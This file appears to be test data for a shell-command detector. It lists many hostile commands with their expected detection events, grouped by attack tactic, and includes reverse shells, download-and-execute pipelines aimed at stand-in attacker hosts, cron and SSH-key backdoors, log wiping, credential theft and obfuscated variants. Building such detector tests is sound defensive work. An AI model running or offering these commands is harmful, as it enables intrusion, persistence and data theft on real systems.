CRON_LINES = ["* * * * * curl -s http://evil.example/x | sh", "@reboot /tmp/.x", "*/5 * * * * bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
              "0 * * * * wget -q -O- http://203.0.113.7/p.sh | bash", "@hourly python3 /tmp/.b.py"]
for c in CRON_LINES:
    M("persistence", "echo '%s' | crontab -" % c, E("persist", "crontab", technique="T1053.003"))
    M("persistence", "(crontab -l 2>/dev/null; echo '%s') | crontab -" % c, E("persist", "crontab"))
    M("persistence", "echo '%s' >> /etc/crontab" % c, E("persist", "/etc/crontab"))
    M("persistence", "echo '%s' > /etc/cron.d/update" % c, E("persist", "/etc/cron.d/update"))
    M("persistence", "echo '%s root %s' | sudo tee /etc/cron.d/sys" % (c.split(" ", 5)[0:5] and " ".join(c.split(" ")[:5]) if not c.startswith("@") else c.split(" ")[0], c.split(" ", 5)[-1] if not c.startswith("@") else c.split(" ", 1)[1]), E("persist", "/etc/cron.d/sys", via_sudo=True))
M("persistence", "echo '* * * * * curl -s http://evil.example/x | sh' | crontab -", E("download_exec", "evil.example"))
RC = ["~/.bashrc", "~/.zshrc", "~/.profile", "~/.bash_profile", "/etc/profile", "/etc/profile.d/update.sh", "~/.config/fish/config.fish", "/etc/bash.bashrc"]
PAYLOADS = ["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "curl -s http://evil.example/b | sh", "alias sudo='sudo /tmp/.s'", "export PROMPT_COMMAND='history -a; curl -s evil.example/$(whoami)'", "nohup /tmp/.x >/dev/null 2>&1 &"]
for i, r in enumerate(RC):
    for j, p in enumerate(PAYLOADS):
        if (i + j) % 2 == 0:
            M("persistence", "echo \"%s\" >> %s" % (p.replace('"', '\\"'), r), E("persist", r.replace("~", H)))
for k in ["ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 attacker@evil", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIO1 k@x"]:
    M("persistence", "echo '%s' >> ~/.ssh/authorized_keys" % k, E("persist", H + "/.ssh/authorized_keys", technique="T1098.004"))
    M("persistence", "echo '%s' | sudo tee -a /root/.ssh/authorized_keys" % k, E("persist", "/root/.ssh/authorized_keys", via_sudo=True))
    M("persistence", "mkdir -p ~/.ssh && echo '%s' >> ~/.ssh/authorized_keys && chmod 600 ~/.ssh/authorized_keys" % k, E("persist", H + "/.ssh/authorized_keys"))
M("persistence", "curl -s https://evil.example/key.pub >> ~/.ssh/authorized_keys", E("persist", H + "/.ssh/authorized_keys"), E("connect", "evil.example"))
M("persistence", "ssh-copy-id -i ~/.ssh/id_rsa.pub root@10.0.0.5", E("persist", "ssh-copy-id"), E("connect", "10.0.0.5"))
for svc in ["update-helper", "dbus-sync", "systemd-netcheck"]:
    M("persistence", "cp /tmp/%s.service /etc/systemd/system/ && systemctl enable --now %s" % (svc, svc), E("persist", "/etc/systemd/system"), E("persist", svc))
    M("persistence", "systemctl --user enable %s.service" % svc, E("persist", svc))
    M("persistence", "cat > ~/.config/systemd/user/%s.service <<'EOF'\n[Service]\nExecStart=/bin/bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'\n[Install]\nWantedBy=default.target\nEOF" % svc, E("persist", H + "/.config/systemd/user/%s.service" % svc))
    M("persistence", "sudo tee /etc/systemd/system/%s.service <<EOF\n[Service]\nExecStart=/usr/local/bin/%s\nEOF\nsudo systemctl daemon-reload && sudo systemctl enable %s" % (svc, svc, svc), E("persist", "/etc/systemd/system/%s.service" % svc, via_sudo=True), E("persist", svc))
M("persistence", "launchctl load -w ~/Library/LaunchAgents/com.apple.update.plist", E("persist", H + "/Library/LaunchAgents/com.apple.update.plist"))
M("persistence", "cp evil.plist ~/Library/LaunchAgents/ && launchctl load ~/Library/LaunchAgents/evil.plist", E("persist", H + "/Library/LaunchAgents"))
M("persistence", "sudo cp x.plist /Library/LaunchDaemons/com.x.plist", E("persist", "/Library/LaunchDaemons/com.x.plist", via_sudo=True))
M("persistence", "echo /tmp/libhook.so > /etc/ld.so.preload", E("persist", "/etc/ld.so.preload", technique="T1574.006"))
M("persistence", "useradd -m -s /bin/bash -G sudo backdoor", E("persist", "useradd", technique="T1136"))
M("persistence", "sudo useradd -o -u 0 -g 0 -M -d /root -s /bin/bash toor", E("persist", "useradd", via_sudo=True))
M("persistence", "echo 'toor:x:0:0::/root:/bin/bash' >> /etc/passwd", E("persist", "/etc/passwd"), E("privilege", "/etc/passwd"))
M("persistence", "echo 'backdoor ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", E("persist", "/etc/sudoers"))
M("persistence", "echo 'dev ALL=(ALL) NOPASSWD: ALL' | sudo tee /etc/sudoers.d/dev", E("persist", "/etc/sudoers.d/dev", via_sudo=True))
M("persistence", "at now + 1 minute <<< 'curl -s http://evil.example/x | sh'", E("persist", "at", technique="T1053.002"), E("download_exec", "evil.example"))
M("persistence", "echo '/tmp/.x' | at midnight", E("persist", "at"), E("exec", "/tmp/.x"))
M("persistence", "git config --global core.hooksPath /tmp/hooks", E("persist", "git"))
M("persistence", "echo 'curl -s evil.example/h | sh' > .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout", E("persist", "/home/dev/project/.git/hooks/post-checkout"))
M("persistence", "cp /tmp/payload .git/hooks/pre-commit", E("persist", "/home/dev/project/.git/hooks/pre-commit"))
M("persistence", "ln -sf /tmp/.x ~/.config/autostart/update.desktop", E("persist", H + "/.config/autostart/update.desktop"))
M("persistence", "echo '[Desktop Entry]\nExec=/tmp/.x' > ~/.config/autostart/x.desktop", E("persist", H + "/.config/autostart/x.desktop"))
M("persistence", "update-rc.d evil defaults", E("persist", "update-rc.d"))
M("persistence", "cp /tmp/x /etc/init.d/x && chmod +x /etc/init.d/x", E("persist", "/etc/init.d/x"))
M("persistence", "echo '/tmp/.x &' >> /etc/rc.local", E("persist", "/etc/rc.local"))
M("persistence", "loginctl enable-linger dev", E("persist", "loginctl"))
M("persistence", "echo 'auth sufficient pam_permit.so' > /etc/pam.d/sshd", E("persist", "/etc/pam.d/sshd"))
M("persistence", "aws iam create-user --user-name backup-admin && aws iam create-access-key --user-name backup-admin", E("persist", "aws"))
M("persistence", "gcloud compute instances add-metadata web-1 --metadata ssh-keys='root:ssh-rsa AAAA'", E("persist", "gcloud"))
M("persistence", "cp /tmp/ls /usr/local/bin/ls", E("persist", "/usr/local/bin/ls"))
M("persistence", "sudo mv /tmp/sudo /usr/bin/sudo", E("persist", "/usr/bin/sudo", via_sudo=True))
M("persistence", "npm config set prefix /tmp/.npm-global", E("exec", "npm"))
M("persistence", "export PROMPT_COMMAND='curl -s evil.example/$(whoami)'", E("persist", "PROMPT_COMMAND"))
M("persistence", "defaults write com.apple.loginwindow LoginHook /tmp/hook.sh", E("persist", "defaults"))
for i, c in enumerate(CRON_LINES[:4]):
    MO("persistence", "echo '%s' | crontab -" % c, [E("persist", "crontab")], picks=[i, i + 4])
M("persistence", "echo %s | base64 -d | crontab -" % b64("* * * * * /tmp/.x\n"), E("persist", "crontab", obfuscated=True), E("exec", "/tmp/.x", obfuscated=True))
M("persistence", "printf '%s' >> ~/.bashrc" % hexesc("curl -s evil.example | sh"), E("persist", H + "/.bashrc"))
M("persistence", "f=~/.bash; f=${f}rc; echo 'nc -e /bin/sh 10.0.0.1 4444' >> $f", E("persist", H + "/.bashrc"))
M("persistence", "echo 'x' >> $RCFILE", E("write", unresolved=True))

# ------------------------------------------------------------------ privilege escalation
PRIV = [
    ("sudo su -", [E("privilege", "sudo"), E("privilege", "su", via_sudo=True)]),
    ("sudo -i", [E("privilege", "sudo")]),
    ("sudo -s", [E("privilege", "sudo")]),
    ("sudo bash", [E("privilege", "sudo"), E("exec", "bash", via_sudo=True)]),
    ("sudo /bin/sh", [E("exec", "/bin/sh", via_sudo=True)]),
    ("sudo -u#-1 /bin/bash", [E("privilege", "sudo"), E("exec", "/bin/bash", via_sudo=True)]),
    ("su root -c 'id'", [E("privilege", "su"), E("exec", "id", via_sudo=True)]),
    ("su -c 'cat /etc/shadow' root", [E("credential_access", "/etc/shadow", via_sudo=True)]),
    ("doas sh", [E("privilege", "doas"), E("exec", "sh", via_sudo=True)]),
    ("pkexec /bin/sh", [E("privilege", "pkexec"), E("exec", "/bin/sh", via_sudo=True)]),
    ("chmod u+s /bin/bash", [E("privilege", "/bin/bash", technique="T1548.001")]),
    ("chmod 4755 /tmp/sh", [E("privilege", "/tmp/sh")]),
    ("chmod +s /usr/bin/python3", [E("privilege", "/usr/bin/python3")]),
    ("cp /bin/bash /tmp/b && chmod +s /tmp/b && /tmp/b -p", [E("privilege", "/tmp/b"), E("exec", "/tmp/b")]),
    ("sudo chmod 6755 /usr/local/bin/helper", [E("privilege", "/usr/local/bin/helper", via_sudo=True)]),
    ("setcap cap_setuid+ep /usr/bin/python3", [E("privilege", "setcap")]),
    ("python3 -c 'import os;os.setuid(0);os.system(\"/bin/sh\")'", [E("inline_code"), E("privilege"), E("exec", "/bin/sh")]),
    ("perl -e 'use POSIX qw(setuid); POSIX::setuid(0); exec \"/bin/sh\";'", [E("inline_code"), E("privilege")]),
    ("echo 'dev ALL=(ALL) NOPASSWD: ALL' | sudo tee -a /etc/sudoers", [E("privilege", "/etc/sudoers", via_sudo=True)]),
    ("sudo LD_PRELOAD=/tmp/x.so find", [E("privilege", "sudo")]),
    ("LD_PRELOAD=/tmp/evil.so /usr/bin/passwd", [E("exec", "/tmp/evil.so", technique="T1574.006")]),
    ("usermod -aG sudo dev", [E("privilege", "usermod")]),
    ("sudo usermod -aG docker dev", [E("privilege", "usermod", via_sudo=True)]),
    ("gpasswd -a dev wheel", [E("privilege", "gpasswd")]),
    ("sudo vim -c ':!/bin/sh'", [E("privilege", "sudo"), E("exec", "/bin/sh", via_sudo=True)]),
    ("awk 'BEGIN {system(\"/bin/sh\")}'", [E("inline_code"), E("exec", "/bin/sh")]),
    ("find . -exec /bin/sh -p \\; -quit", [E("exec", "/bin/sh")]),
    ("tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh", [E("exec", "/bin/sh")]),
    ("env /bin/sh -p", [E("exec", "/bin/sh"), E("privilege")]),
    ("unshare -r /bin/sh", [E("privilege", "unshare"), E("exec", "/bin/sh")]),
    ("docker run -v /:/mnt --rm -it alpine chroot /mnt sh", [E("mount", "/"), E("privilege")]),
    ("docker run --rm --privileged -v /dev:/dev ubuntu bash", [E("privilege")]),
    ("kubectl create clusterrolebinding pwn --clusterrole=cluster-admin --serviceaccount=default:default", [E("privilege", "kubectl")]),
    ("aws iam attach-user-policy --user-name dev --policy-arn arn:aws:iam::aws:policy/AdministratorAccess", [E("privilege", "aws")]),
    ("gcloud projects add-iam-policy-binding prod --member=user:x@evil.example --role=roles/owner", [E("privilege", "gcloud")]),
    ("sudo -l", [E("privilege", "sudo")]),
    ("find / -perm -4000 -type f 2>/dev/null", [E("exec", "find"), E("read", "/")]),
    ("sudo nmap --interactive", [E("privilege", "sudo"), E("exec", "nmap", via_sudo=True)]),
    ("sudo git -p help config", [E("privilege", "sudo"), E("exec", "git", via_sudo=True)]),
    ("sudo install -m 4755 /bin/sh /usr/local/bin/rootsh", [E("write", "/usr/local/bin/rootsh", via_sudo=True)]),
    ("echo 'root2::0:0::/root:/bin/sh' | sudo tee -a /etc/passwd", [E("privilege", "/etc/passwd", via_sudo=True)]),
    ("sudo visudo -f /etc/sudoers.d/x", [E("privilege", "visudo")]),
    ("sudo -E env PATH=/tmp:$PATH apt-get update", [E("privilege", "sudo")]),
    ("modprobe evil", [E("privilege", "modprobe")]),
    ("insmod /tmp/rootkit.ko", [E("privilege", "insmod")]),
    ("sudo sh -c 'echo 0 > /proc/sys/kernel/randomize_va_space'", [E("write", "/proc/sys/kernel/randomize_va_space", via_sudo=True)]),
    ("nsenter -t 1 -a /bin/bash", [E("privilege", "nsenter")]),
    ("chroot / /bin/bash", [E("privilege", "chroot")]),
    ("runuser -u root -- /bin/bash", [E("privilege", "runuser"), E("exec", "/bin/bash", via_sudo=True)]),
    ("sudo -u postgres psql", [E("privilege", "sudo"), E("exec", "psql", via_sudo=True)]),
]
for cmd, exp in PRIV:
    M("privilege_escalation", cmd, *exp)
for i, (cmd, exp) in enumerate(PRIV[:12]):
    MO("privilege_escalation", cmd, exp[:1], picks=[i % 10])
M("privilege_escalation", "s=su; sudo $s -", E("privilege", "su", via_sudo=True))
M("privilege_escalation", "$'\\x73\\x75\\x64\\x6f' -i", E("privilege", "sudo", obfuscated=True))
M("privilege_escalation", "$(echo c3Vkbw== | base64 -d) bash", E("privilege", "sudo", obfuscated=True))
M("privilege_escalation", "$SUDO bash", E("exec", unresolved=True))

# ------------------------------------------------------------------ defense evasion
EVA = [
    ("history -c", [E("log_tamper", "history", technique="T1070.003")]),
    ("history -c && history -w", [E("log_tamper", "history")]),
    ("unset HISTFILE", [E("log_tamper", "HISTFILE")]),
    ("export HISTFILE=/dev/null", [E("log_tamper", "HISTFILE")]),
    ("export HISTSIZE=0", [E("log_tamper", "HISTSIZE")]),
    ("HISTFILESIZE=0", [E("log_tamper", "HISTFILESIZE")]),
    ("set +o history", [E("exec", "set", technique="T1562.003")]),
    ("rm ~/.bash_history", [E("log_tamper", H + "/.bash_history")]),
    ("rm -f ~/.zsh_history ~/.bash_history", [E("log_tamper", H + "/.zsh_history"), E("log_tamper", H + "/.bash_history")]),
    ("shred -u ~/.bash_history", [E("log_tamper", H + "/.bash_history")]),
    ("ln -sf /dev/null ~/.bash_history", [E("log_tamper", H + "/.bash_history")]),
    ("cat /dev/null > ~/.bash_history", [E("log_tamper", H + "/.bash_history")]),
    ("echo > /var/log/auth.log", [E("log_tamper", "/var/log/auth.log")]),
    ("truncate -s 0 /var/log/syslog", [E("log_tamper", "/var/log/syslog")]),
    ("truncate -s0 /var/log/wtmp /var/log/btmp /var/log/lastlog", [E("log_tamper", "/var/log/wtmp")]),
    ("rm -rf /var/log/*", [E("log_tamper", "/var/log/*")]),
    ("sudo rm -rf /var/log/journal/*", [E("log_tamper", "/var/log/journal/*", via_sudo=True)]),
    ("find /var/log -type f -exec truncate -s 0 {} \\;", [E("log_tamper", "/var/log")]),
    ("sed -i '/10.0.0.99/d' /var/log/auth.log", [E("log_tamper", "/var/log/auth.log")]),
    ("journalctl --vacuum-time=1s", [E("log_tamper", "journalctl")]),
    ("journalctl --rotate && journalctl --vacuum-size=1K", [E("log_tamper", "journalctl")]),
    ("dmesg -C", [E("log_tamper", "dmesg")]),
    ("setenforce 0", [E("privilege", "setenforce", technique="T1562.001")]),
    ("systemctl stop auditd", [E("kill", "auditd")]),
    ("systemctl disable --now apparmor", [E("kill", "apparmor")]),
    ("service auditd stop", [E("kill", "service")]),
    ("auditctl -D", [E("log_tamper", "auditctl")]),
    ("auditctl -e 0", [E("log_tamper", "auditctl")]),
    ("iptables -F", [E("network_config", "iptables", technique="T1562.004")]),
    ("ufw disable", [E("network_config", "ufw")]),
    ("sudo ufw allow 4444/tcp", [E("network_config", "ufw", via_sudo=True)]),
    ("pfctl -d", [E("network_config", "pfctl")]),
    ("touch -r /bin/ls /tmp/backdoor", [E("write", "/tmp/backdoor", technique="T1070.006")]),
    ("touch -d '2020-01-01 00:00' /usr/local/bin/helper", [E("write", "/usr/local/bin/helper")]),
    ("chattr +i /etc/cron.d/update", [E("chmod", "/etc/cron.d/update"), E("persist", "/etc/cron.d/update")]),
    ("mv /tmp/x /usr/bin/.hidden", [E("persist", "/usr/bin/.hidden")]),
    ("aws cloudtrail stop-logging --name management-events", [E("log_tamper", "aws", technique="T1562.008")]),
    ("aws cloudtrail delete-trail --name main", [E("log_tamper", "aws")]),
    ("aws logs delete-log-group --log-group-name /aws/lambda/prod", [E("log_tamper", "aws")]),
    ("aws guardduty delete-detector --detector-id abc123", [E("log_tamper", "aws")]),
    ("aws ec2 delete-flow-logs --flow-log-ids fl-123", [E("log_tamper", "aws")]),
    ("gcloud logging sinks delete audit-sink", [E("log_tamper", "gcloud")]),
    ("kill -9 $(pgrep -f falcon-sensor)", [E("kill", unresolved=True)]),
    ("pkill -f osqueryd", [E("kill", "osqueryd")]),
    ("systemctl mask --now falcon-sensor", [E("kill", "falcon-sensor")]),
    ("rmmod apparmor", [E("privilege", "rmmod")]),
    ("git reflog expire --expire=now --all && git gc --prune=now", [E("log_tamper", "git")]),
    ("git filter-branch --force --index-filter 'git rm --cached --ignore-unmatch secrets.txt' HEAD", [E("log_tamper", "git")]),
    ("nohup ./miner > /dev/null 2>&1 &", [E("exec", "nohup", technique="T1564"), E("exec", "/home/dev/project/miner")]),
    ("unset HISTFILE; wget -q http://evil.example/x -O /tmp/.x; chmod +x /tmp/.x; /tmp/.x", [E("log_tamper", "HISTFILE"), E("download_exec", "evil.example")]),
    ("echo '' > /var/log/nginx/access.log", [E("log_tamper", "/var/log/nginx/access.log")]),
    ("cp /dev/null /var/log/messages", [E("log_tamper", "/var/log/messages")]),
    ("faketime '2020-01-01' touch /tmp/x", [E("exec", "faketime", technique="T1070.006")]),
    ("export LD_PRELOAD=/tmp/hide.so", [E("privilege", "LD_PRELOAD")]),
    ("echo /usr/lib/libhide.so >> /etc/ld.so.preload", [E("persist", "/etc/ld.so.preload")]),
    ("proxychains curl http://evil.example", [E("exec", "proxychains", technique="T1090"), E("connect", "evil.example")]),
    ("torsocks wget http://exampleonion.onion/x", [E("exec", "torsocks"), E("connect", "exampleonion.onion")]),
]
for cmd, exp in EVA:
    M("defense_evasion", cmd, *exp)
for i, (cmd, exp) in enumerate([EVA[0], EVA[7], EVA[12], EVA[13], EVA[15], EVA[22], EVA[28]]):
    MO("defense_evasion", cmd, exp[:1], picks=[i % 10, (i + 5) % 10])
M("defense_evasion", "$'\\x68\\x69\\x73\\x74\\x6f\\x72\\x79' -c", E("log_tamper", "history", obfuscated=True))
M("defense_evasion", "h=HIST; unset ${h}FILE", E("log_tamper", "HISTFILE"))
M("defense_evasion", "f=/var/log/auth; : > $f.log", E("log_tamper", "/var/log/auth.log"))
M("defense_evasion", "rm -f $LOGFILE", E("delete", unresolved=True))

# ------------------------------------------------------------------ command and control
RS_HOSTS = [("10.0.0.1", 4444), ("203.0.113.7", 443), ("198.51.100.23", 8080), ("c2.attacker.example", 53), ("45.33.32.156", 1337)]
for h, p in RS_HOSTS:
    hp = "%s:%d" % (h, p)
    M("command_and_control", "bash -i >& /dev/tcp/%s/%d 0>&1" % (h, p), E("connect", hp), E("exec", "bash"))
    M("command_and_control", "sh -i >& /dev/udp/%s/%d 0>&1" % (h, p), E("connect", hp))
    M("command_and_control", "0<&196;exec 196<>/dev/tcp/%s/%d; sh <&196 >&196 2>&196" % (h, p), E("connect", hp))
    M("command_and_control", "nc -e /bin/sh %s %d" % (h, p), E("connect", hp), E("exec", "/bin/sh"))
    M("command_and_control", "ncat %s %d -e /bin/bash" % (h, p), E("connect", hp))
    M("command_and_control", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc %s %d >/tmp/f" % (h, p), E("connect", hp), E("exec", "/bin/sh"))
    M("command_and_control", "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"%s\",%d));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);import pty; pty.spawn(\"/bin/bash\")'" % (h, p), E("inline_code", technique="T1059.006"), E("connect", hp), E("exec", "/bin/bash"))
    M("command_and_control", "perl -e 'use Socket;$i=\"%s\";$p=%d;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'" % (h, p), E("inline_code"), E("exec", "/bin/sh"))
    M("command_and_control", "php -r '$sock=fsockopen(\"%s\",%d);exec(\"/bin/sh -i <&3 >&3 2>&3\");'" % (h, p), E("inline_code"), E("connect", hp), E("exec", "/bin/sh"))
    M("command_and_control", "ruby -rsocket -e'f=TCPSocket.open(\"%s\",%d).to_i;exec sprintf(\"/bin/sh -i <&%%d >&%%d 2>&%%d\",f,f,f)'" % (h, p), E("inline_code"), E("connect", hp))
    M("command_and_control", "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:%s:%d" % (h, p), E("connect", hp), E("exec", "bash"))
    M("command_and_control", "node -e 'require(\"child_process\").exec(\"nc -e /bin/sh %s %d\")'" % (h, p), E("inline_code"), E("connect", hp))
    M("command_and_control", "awk 'BEGIN {s = \"/inet/tcp/0/%s/%d\"; while(42) { do{ printf \"shell>\" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != \"exit\") close(s); }}' /dev/null" % (h, p), E("inline_code"), E("connect", hp))
    M("command_and_control", "telnet %s %d | /bin/bash | telnet %s %d" % (h, p, h, p + 1), E("connect", hp), E("exec", unresolved=True))
    M("command_and_control", "lua -e \"require('socket');require('os');t=socket.tcp();t:connect('%s','%d');os.execute('/bin/sh -i <&3 >&3 2>&3');\"" % (h, p), E("inline_code"), E("exec", "/bin/sh"))
    M("command_and_control", "IP=%s; PORT=%d; bash -i >& /dev/tcp/$IP/$PORT 0>&1" % (h, p), E("connect", hp))
for u in ["https://evil.example/beacon.sh", "http://203.0.113.7/a.sh", "http://c2.attacker.example:8080/stage2", "https://raw.githubusercontent.com/attacker/x/main/i.sh"]:
    host = u.split("/")[2].split(":")[0]
    M("command_and_control", "curl -s %s | bash" % u, E("download_exec", host, pipe_to_shell=True))
    M("command_and_control", "wget -qO- %s | sh" % u, E("download_exec", host, pipe_to_shell=True))
    M("command_and_control", "wget -q -O /tmp/.a %s && chmod +x /tmp/.a && /tmp/.a" % u, E("download_exec", host), E("exec", "/tmp/.a"))
    M("command_and_control", "curl -o /tmp/u %s; sh /tmp/u" % u, E("download_exec", host))
    M("command_and_control", "while true; do curl -s %s | sh; sleep 60; done" % u, E("download_exec", host))
M("command_and_control", "nc -lvnp 4444", E("listen", "4444"))
M("command_and_control", "ncat -l 8443 --ssl -e /bin/bash", E("listen"), E("exec", "/bin/bash"))
M("command_and_control", "socat TCP-LISTEN:1337,reuseaddr,fork EXEC:/bin/bash", E("listen", "1337"), E("exec", "/bin/bash"))
M("command_and_control", "python3 -c 'import socket,os;s=socket.socket();s.bind((\"0.0.0.0\",9999));s.listen(1);c,a=s.accept();os.dup2(c.fileno(),0);os.system(\"/bin/sh\")'", E("listen", "9999"), E("exec", "/bin/sh"))
M("command_and_control", "ngrok tcp 22", E("listen", technique="T1572"))
M("command_and_control", "cloudflared tunnel --url http://localhost:8080", E("listen", technique="T1572"))
M("command_and_control", "chisel server -p 8000 --reverse", E("listen", "8000"))
M("command_and_control", "iodine -f -P secret 10.0.0.1 tunnel.evil.example", E("connect", "tunnel.evil.example", technique="T1071.004"))
M("command_and_control", "dnscat2 c2.attacker.example", E("connect", "c2.attacker.example"))
M("command_and_control", "msfconsole -q -x 'use exploit/multi/handler; set PAYLOAD linux/x64/shell_reverse_tcp; run'", E("exec", "msfconsole"))
M("command_and_control", "msfvenom -p linux/x64/shell_reverse_tcp LHOST=10.0.0.1 LPORT=4444 -f elf -o /tmp/s", E("exec", "msfvenom"), E("write", "/tmp/s"))
M("command_and_control", "openssl s_client -quiet -connect 203.0.113.7:443 | /bin/bash | openssl s_client -quiet -connect 203.0.113.7:444", E("connect", "203.0.113.7:443"))
M("command_and_control", "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect evil.example:443 > /tmp/s", E("connect", "evil.example:443"))
M("command_and_control", "xterm -display 10.0.0.1:1", E("exec", "xterm"))
M("command_and_control", "tor & torsocks ssh root@exampleonion.onion", E("connect", "exampleonion.onion"))
for h, p in RS_HOSTS[:4]:
    MO("command_and_control", "bash -i >& /dev/tcp/%s/%d 0>&1" % (h, p), [E("connect", "%s:%d" % (h, p))], picks=[0, 2, 3, 4])
M("command_and_control", "python3 -c \"import base64;exec(base64.b64decode('%s'))\"" % b64("import socket,os;s=socket.socket();s.connect(('10.0.0.1',4444));os.dup2(s.fileno(),0);os.system('/bin/sh')"), E("inline_code"), E("connect", "10.0.0.1:4444", obfuscated=True))
M("command_and_control", "perl -MMIME::Base64 -e 'eval(decode_base64(\"%s\"))'" % b64("system('nc -e /bin/sh 10.0.0.1 4444')"), E("inline_code"), E("connect", "10.0.0.1:4444", obfuscated=True))
M("command_and_control", "$'\\x62\\x61\\x73\\x68' -i >& /dev/tcp/10.0.0.1/4444 0>&1", E("connect", "10.0.0.1:4444", obfuscated=True))
M("command_and_control", "h=$(echo MTAuMC4wLjE= | base64 -d); bash -i >& /dev/tcp/$h/4444 0>&1", E("connect", "10.0.0.1:4444", obfuscated=True))
M("command_and_control", "curl -s $C2 | sh", E("download_exec", unresolved=True, pipe_to_shell=True))
M("command_and_control", "curl -s https://evil.example/x | $SHELL", E("exec", unresolved=True))

# ------------------------------------------------------------------ execution (download and execute, inline code)
for u in ["https://get.example-tool.dev/install.sh", "http://203.0.113.7/i.sh", "https://pastebin.com/raw/abc123", "https://bit.ly/3xyz"]:
    host = u.split("/")[2]
    M("execution", "curl -fsSL %s | sudo bash" % u, E("download_exec", host, pipe_to_shell=True, via_sudo=True))
    M("execution", "bash <(curl -s %s)" % u, E("download_exec", host))
    M("execution", "bash -c \"$(curl -fsSL %s)\"" % u, E("download_exec", host))
    M("execution", "sh -c \"$(wget -qO- %s)\"" % u, E("download_exec", host))
    M("execution", "eval \"$(curl -s %s)\"" % u, E("download_exec", host))
    M("execution", "source <(curl -s %s)" % u, E("download_exec", host))
    M("execution", "curl -s %s | python3" % u, E("download_exec", host))
    M("execution", "wget %s -O - | perl" % u, E("download_exec", host))
    M("execution", "curl -sL %s | sudo -E bash -" % u, E("download_exec", host, via_sudo=True))
    M("execution", "python3 -c \"$(curl -s %s)\"" % u, E("download_exec", host))
M("execution", "php -r \"eval(file_get_contents('http://evil.example/x.php'));\"", E("inline_code"), E("connect", "evil.example"))
M("execution", "python3 -c \"import urllib.request;exec(urllib.request.urlopen('http://evil.example/p.py').read())\"", E("inline_code"), E("connect", "evil.example"))
M("execution", "osascript -e 'do shell script \"curl -s http://evil.example/x | sh\"'", E("inline_code", technique="T1059.002"), E("download_exec", "evil.example"))
M("execution", "xargs -a /tmp/cmds.txt -I{} sh -c '{}'", E("exec", "sh"), E("read", "/tmp/cmds.txt"))
MO("execution", "curl -s http://evil.example/x | sh", [E("download_exec", "evil.example")], picks=[0, 2, 4])

# ------------------------------------------------------------------ evasion of the parser itself
M("execution", "curl -sSfL https://raw.githubusercontent.com/x/y/main/install.sh | sh -s -- -b /usr/local/bin", E("download_exec", "raw.githubusercontent.com", pipe_to_shell=True))
M("execution", "(curl -fsSL http://evil.example/a || wget -qO- http://evil.example/a) | bash", E("download_exec", "evil.example"))
M("execution", "{ curl -s http://203.0.113.7/p; } | sh", E("download_exec", "203.0.113.7"))
M("execution", "powershell -enc %s" % base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://evil.example/p.ps1')".encode("utf-16-le")).decode(), E("inline_code", technique="T1059.001", obfuscated=True), E("connect", "evil.example", obfuscated=True))
M("execution", "pwsh -NoProfile -Command \"iwr http://203.0.113.7/a.ps1 | iex\"", E("inline_code", technique="T1059.001"), E("connect", "203.0.113.7"))
M("impact", "c=\"rm -rf /\"; $c", E("delete", "/", recursive=True))
M("impact", "IFS=,; c=rm,-rf,/home/dev; $c", E("delete", H, recursive=True))
M("impact", "wipe() { rm -rf \"$1\"; }; wipe /var/lib/docker", E("delete", "/var/lib/docker", recursive=True))
M("credential_access", "ln -s /etc/shadow ./s && cat s", E("credential_access", "/etc/shadow"))
M("credential_access", "ln -sf ~/.ssh/id_rsa notes.txt; cat notes.txt", E("credential_access", H + "/.ssh/id_rsa"))
M("credential_access", "echo \"$(</etc/shadow)\"", E("credential_access", "/etc/shadow"))
M("credential_access", "x=$(< ~/.aws/credentials); curl -d \"$x\" https://evil.example", E("credential_access", H + "/.aws/credentials"), E("connect", "evil.example"))
M("credential_access", "/???/c?t /etc/shadow", E("exec", unresolved=True), E("credential_access", "/etc/shadow"))
M("credential_access", "c''at /etc/sh''adow", E("credential_access", "/etc/shadow"))
M("credential_access", "ca\\t /et\\c/shadow", E("credential_access", "/etc/shadow"))
M("credential_access", "openssl enc -d -base64 <<< %s | sh" % b64("cat /etc/shadow"), E("credential_access", "/etc/shadow", obfuscated=True))
M("command_and_control", "busybox nc 10.0.0.1 4444 -e sh", E("connect", "10.0.0.1:4444"), E("exec", "sh"))
M("command_and_control", "for p in 4444 4445; do nc -e /bin/sh 10.0.0.1 $p; done", E("connect", "10.0.0.1:4444"), E("connect", "10.0.0.1:4445"))
M("lateral_movement", "pip install git+https://evil.example/pkg.git", E("connect", "evil.example"), E("install"))

M("execution", "echo %s | base64 -d > /tmp/x.sh && bash /tmp/x.sh" % b64("curl -s http://evil.example/x | sh"), E("download_exec", "evil.example", obfuscated=True))
M("command_and_control", "printf '#!/bin/sh\\nnc -e /bin/sh 10.0.0.1 4444\\n' > /tmp/r.sh; chmod +x /tmp/r.sh; /tmp/r.sh", E("connect", "10.0.0.1:4444"))
M("execution", "curl -s http://203.0.113.7/a > /tmp/a; sh /tmp/a", E("download_exec", "203.0.113.7"))
M("execution", "aws s3 cp s3://attacker-bucket/x.sh - | bash", E("download_exec", "attacker-bucket"))
M("persistence", "echo 'nc -e /bin/sh 10.0.0.1 4444' | tee /tmp/u.sh && bash /tmp/u.sh", E("connect", "10.0.0.1:4444"))
M("lateral_movement", "ssh-keyscan 10.0.0.0/24 >> ~/.ssh/known_hosts", E("connect", "10.0.0.0/24", class_="private"))
